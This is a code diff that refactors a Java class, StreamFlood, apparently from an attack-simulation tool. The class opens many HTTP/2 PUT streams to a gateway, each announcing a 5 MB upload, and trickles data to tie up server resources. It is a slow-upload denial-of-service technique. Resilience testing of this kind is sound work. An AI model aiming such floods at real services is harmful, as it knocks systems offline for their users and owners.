@@ -31,16 +31,21 @@ final class StreamFlood implements Attack {
 
     private final Vertx vertx = Vertx.vertx();
     private final HttpClient client;
-    private final URI gateway;
-    private final String path;
+    private final RequestOptions upload;
     private final AtomicLong begun = new AtomicLong();
     private final AtomicLong cutOff = new AtomicLong();
     private volatile boolean over;
 
-    private StreamFlood(URI gateway, String path) {
+    StreamFlood(URI gateway, String path) {
         FRAMES.setLevel(Level.WARNING);
-        this.gateway = gateway;
-        this.path = path;
+        this.upload = new RequestOptions()
+                .setMethod(HttpMethod.PUT)
+                .setHost(gateway.getHost())
+                .setPort(gateway.getPort())
+                .setURI(path)
+                .putHeader("content-type", "video/webm")
+                .putHeader("authorization", "Bearer none")
+                .putHeader("content-length", "5000000");
         this.client = vertx.httpClientBuilder()
                 .with(new HttpClientOptions()
                         .setProtocolVersion(HttpVersion.HTTP_2)
@@ -51,14 +56,9 @@ final class StreamFlood implements Attack {
                 // Being cut off is what it is for; without a handler each time would be logged.
                 .withConnectHandler(connection -> connection.exceptionHandler(fault -> {}))
                 .build();
-    }
-
-    static StreamFlood begin(URI gateway, String path) {
-        var flood = new StreamFlood(gateway, path);
         for (int stream = 0; stream < CONNECTIONS * STREAMS; stream++) {
-            flood.open();
+            open();
         }
-        return flood;
     }
 
     @Override
@@ -77,19 +77,9 @@ final class StreamFlood implements Attack {
     }
 
     private void open() {
-        if (over) {
-            return;
+        if (!over) {
+            client.request(upload).onSuccess(this::trickle).onFailure(fault -> again());
         }
-        client.request(new RequestOptions()
-                        .setMethod(HttpMethod.PUT)
-                        .setHost(gateway.getHost())
-                        .setPort(gateway.getPort())
-                        .setURI(path)
-                        .putHeader("content-type", "video/webm")
-                        .putHeader("authorization", "Bearer none")
-                        .putHeader("content-length", "5000000"))
-                .onSuccess(this::trickle)
-                .onFailure(fault -> again());
     }
 
     private void trickle(HttpClientRequest stream) {
